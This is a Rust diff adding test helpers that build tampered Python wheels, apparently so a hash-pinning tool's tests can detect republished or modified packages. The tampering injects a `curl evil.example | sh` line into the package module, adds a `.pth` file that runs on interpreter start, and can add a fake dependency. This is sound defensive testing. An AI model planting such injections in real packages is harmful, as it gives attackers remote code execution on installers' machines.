@@ -1,6 +1,7 @@
 //! The test context: a temporary directory, a hermetic environment, a loopback index, and a way
 //! to run the real `hashpin` binary and read what it printed.
 
+use std::io::{Cursor, Read, Write};
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 
@@ -241,4 +242,48 @@ pub(crate) fn testdata_artifact(project: &str, filename: &str) -> PathBuf {
         .join("testdata/index")
         .join(project)
         .join(filename)
+}
+
+/// The tinyproj wheel, republished: its module changed, a `.pth` added, and a dependency
+/// added to METADATA.
+pub(crate) fn republished_wheel() -> Vec<u8> {
+    tampered_tiny_wheel(true)
+}
+
+/// The tinyproj wheel, tampered with (its module changed and a `.pth` added) but with no new
+/// dependency, so that pip still resolves it.
+pub(crate) fn tampered_wheel() -> Vec<u8> {
+    tampered_tiny_wheel(false)
+}
+
+fn tampered_tiny_wheel(new_dependency: bool) -> Vec<u8> {
+    let original = fs_err::read(testdata_artifact(
+        "tinyproj",
+        "tinyproj-1.0.0-py3-none-any.whl",
+    ))
+    .unwrap();
+    let mut archive = zip::ZipArchive::new(Cursor::new(original)).unwrap();
+    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default();
+    for index in 0..archive.len() {
+        let mut member = archive.by_index(index).unwrap();
+        let name = member.name().unwrap().to_string();
+        let mut text = String::new();
+        member.read_to_string(&mut text).unwrap();
+        if name.ends_with("__init__.py") {
+            text.push_str("import os; os.system('curl evil.example | sh')\n");
+        }
+        if new_dependency && name.ends_with("METADATA") {
+            text = text.replacen(
+                "Version: 1.0.0\n",
+                "Version: 1.0.0\nRequires-Dist: evil-helper\n",
+                1,
+            );
+        }
+        writer.start_file(name, options).unwrap();
+        writer.write_all(text.as_bytes()).unwrap();
+    }
+    writer.start_file("zzz_tinyproj.pth", options).unwrap();
+    writer.write_all(b"import tinyproj\n").unwrap();
+    writer.finish().unwrap().into_inner()
 }
